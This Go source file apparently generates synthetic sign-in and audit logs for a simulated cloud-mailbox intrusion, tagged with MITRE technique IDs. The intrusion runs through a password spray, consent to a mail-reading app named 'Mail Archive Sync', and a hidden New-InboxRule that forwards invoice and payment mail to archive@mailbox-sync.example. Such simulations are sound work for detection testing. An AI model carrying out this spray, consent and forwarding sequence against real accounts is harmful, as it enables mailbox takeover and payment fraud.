package simulate

import (
	"fmt"
	"time"
)

// consentToMail: one of many sprayed passwords fits; the account consents to the
// attacker's application, which reads mail; a rule forwards what comes in.
func consentToMail(w *world) {
	e, r, c := w.estate, w.rng("consent-to-mail"), w.campaign("consent-to-mail", "Sprayed password to a mailbox read by a foreign application")
	o := e.office
	from := fmt.Sprintf("203.0.113.%d", 220+r.IntN(20))
	victim := e.people[30+r.IntN(10)]
	c.IPs = []string{from}
	at := w.clock(4, 30).Add(between(r, 0, 50*time.Minute))
	c.Root.User, c.Root.Time = victim.upn(), at
	const country = "MD"

	spray := c.step(at, deed{"T1110.003", "credential-access", "", victim.upn(), "One password tried on every account from " + from, 0}, func() {
		for round := range 3 {
			for _, n := range r.Perm(len(e.people)) {
				if p := e.people[n]; round < 2 || p != victim {
					o.signIn(at, p, shellApp, from, country, "python-requests/2.32.3", 50126)
				}
				at = at.Add(between(r, 3*time.Second, 25*time.Second))
			}
			if round < 2 {
				at = at.Add(between(r, 20*time.Minute, 35*time.Minute))
			}
		}
	})
	in := c.step(at, deed{"T1078.004", "initial-access", "", victim.upn(), "Sign-in with the password that fitted", spray}, func() {
		o.signIn(at, victim, shellApp, from, country, "python-requests/2.32.3", 0)
	})
	at = at.Add(between(r, 25*time.Minute, 60*time.Minute))
	app := application{"Mail Archive Sync", uuid(r)}
	object := func(kind string, props ...property) target {
		return target{ID: app.id, Name: app.name, Type: kind, Properties: props}
	}
	consent := c.step(at, deed{"T1528", "credential-access", "", victim.upn(), "An application registered and given the right to read mail", in}, func() {
		o.signIn(at, victim, portalApp, from, country, "Mozilla/5.0 (X11; Linux x86_64; rv:135.0) Gecko/20100101 Firefox/135.0", 0)
		o.audit(at.Add(3*time.Minute), victim, from, "Add application", "ApplicationManagement", object("Application"))
		o.audit(at.Add(3*time.Minute+2*time.Second), victim, from, "Add service principal", "ApplicationManagement", object("ServicePrincipal"))
		at = at.Add(7 * time.Minute)
		o.audit(at, victim, from, "Add delegated permission grant", "ApplicationManagement", object("ServicePrincipal", property{"DelegatedPermissionGrant.Scope", "", `" Mail.ReadWrite MailboxSettings.ReadWrite offline_access"`}))
		o.audit(at.Add(time.Second), victim, from, "Consent to application", "ApplicationManagement", object("ServicePrincipal", property{"ConsentContext.IsAdminConsent", "", `"False"`}, property{"ConsentAction.Permissions", "", `"Scope: Mail.ReadWrite MailboxSettings.ReadWrite offline_access"`}))
	})
	at = at.Add(between(r, 5*time.Minute, 15*time.Minute))
	c.step(at, deed{"T1098.001", "persistence", "", victim.upn(), "A secret added to the application", consent}, func() {
		o.audit(at, victim, from, "Update application – Certificates and secrets management ", "ApplicationManagement", object("Application", property{"KeyDescription", "[]", `"[KeyIdentifier=` + uuid(r) + `,KeyType=Password,KeyUsage=Verify,DisplayName=sync]"`}))
	})
	at = at.Add(between(r, 30*time.Minute, 70*time.Minute))
	read := c.step(at, deed{"T1114.002", "collection", "", victim.upn(), "The mailbox read through the application's interface", consent}, func() {
		for range 70 + r.IntN(40) {
			o.mail(at, victim, from, "Client=REST;Client=RESTSystem;;", app.id, 40+r.IntN(60))
			at = at.Add(between(r, 15*time.Second, 2*time.Minute))
		}
	})
	at = at.Add(between(r, 5*time.Minute, 20*time.Minute))
	c.step(at, deed{"T1114.003", "collection", "", victim.upn(), "A rule that forwards invoices outside and hides them", read}, func() {
		o.command(at, victim, from, "New-InboxRule", victim.upn()+`\.`, namedValue{"Name", "."}, namedValue{"SubjectOrBodyContainsWords", "invoice;payment;iban"}, namedValue{"ForwardTo", "archive@mailbox-sync.example"}, namedValue{"DeleteMessage", "True"})
	})
}
